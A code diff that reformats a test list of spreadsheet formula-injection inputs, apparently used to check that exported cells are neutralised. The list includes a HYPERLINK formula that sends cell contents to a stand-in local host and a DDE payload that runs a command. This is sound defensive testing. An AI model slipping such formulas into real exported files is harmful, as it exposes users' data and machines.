@@ -6,22 +6,9 @@ import { describeSpreadsheet, useSpreadsheet } from './support/spreadsheet.ts'
 const team = 'team-1'
 /** Texts that a spreadsheet runs as formulas unless prevented, even when not at the start of a cell. */
 const formulas = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1;1)',
-  ' =1+1',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  'a;=1+1;b',
-  'a\n=1+1\nb',
-  'a\t=1+1\tb',
-  '",=1+1,"',
-  '";=1+1;"',
-  '＝1+1',
-  '=HYPERLINK("http://127.0.0.1:9/?"&A1;"open")',
-  "=cmd|'/c calc'!A0",
+  ...['=1+1', '+1+1', '-1+1', '@SUM(1;1)', ' =1+1', '\t=1+1', '\r=1+1', '\n=1+1', 'a;=1+1;b', 'a\n=1+1\nb'],
+  ...['a\t=1+1\tb', '",=1+1,"', '";=1+1;"', '＝1+1'],
+  ...['=HYPERLINK("http://127.0.0.1:9/?"&A1;"open")', "=cmd|'/c calc'!A0"],
 ]
 const texts = ['日本語', 'Ольга', 'محمد', 'é “x”, y', 'two\nlines', "it's"]
 const answerOf = (at: number): string => [...formulas, ...texts][at] ?? ''
